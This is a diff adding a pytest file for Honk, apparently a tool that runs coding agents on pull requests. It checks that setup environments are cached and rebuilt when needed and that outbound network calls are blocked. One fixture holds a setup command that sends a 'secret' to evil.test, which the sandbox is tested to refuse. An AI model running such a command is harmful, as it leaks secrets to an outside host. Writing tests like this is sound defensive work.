@@ -1,0 +1,70 @@
+"""Set-up: once for everybody, with a door that lets little through."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.support.house import FINISH, FIX, PROJECT, House, script
+
+pytestmark = pytest.mark.asyncio(loop_scope="session")
+
+POLICY = b"""
+setup:
+  - python3 -m venv --without-pip .venv
+verify: [".venv/bin/python -c 'import calc; assert calc.add(2, 3) == 5'"]
+"""
+TRIES = b"""
+setup:
+  - >-
+    python3 -c "import urllib.request as u; u.urlopen('https://evil.test/?secret')" || true
+network: {allow: [files.example]}
+verify: ["python3 -c 'import calc; assert calc.add(2, 3) == 5'"]
+"""
+
+
+def kept(house: House) -> int:
+    """How many set-ups Honk has kept."""
+    return len(list((house.home / "honk" / "setups").glob("*/made.tar")))
+
+
+def files(policy: bytes) -> dict[str, bytes]:
+    return {**PROJECT, ".github/honk.yml": policy}
+
+
+async def test_what_set_up_made_is_made_once(house: House) -> None:
+    before = kept(house)
+    subject = await house.subject(
+        files=files(POLICY),
+        plays=script(
+            {"bash": {"command": ".venv/bin/python -V && touch .venv/mine && ls -a"}},
+            [FIX, {"verify": {}}],
+            FINISH,
+        ),
+    )
+    await subject.label()
+    await subject.settled()
+    assert subject.check.conclusion == "success"
+    # The agent, the base, the trial and the commit all had it; it was made once.
+    assert kept(house) - before == 1
+    assert subject.pull.pull is not None
+    assert ".venv" not in await subject.git("ls-tree", "-r", subject.pull.pull.head_sha)
+
+
+async def test_other_dependencies_are_set_up_again(house: House) -> None:
+    before = kept(house)
+    add = {"bash": {"command": "echo > requirements.txt; rm -r .venv"}}
+    subject = await house.subject(
+        files=files(POLICY),
+        plays=script(add, {"setup": {}}, {"bash": {"command": "test -e .venv"}}, FIX, FINISH),
+    )
+    await subject.label()
+    await subject.settled()
+    assert subject.check.conclusion == "success"
+    assert kept(house) - before == 2
+
+
+async def test_what_set_up_tried_to_reach_is_told(house: House) -> None:
+    subject = await house.subject(files=files(TRIES), plays=script(FIX, FINISH))
+    await subject.label()
+    await subject.settled()
+    assert "`evil.test`: the host is not on the allow-list" in subject.status
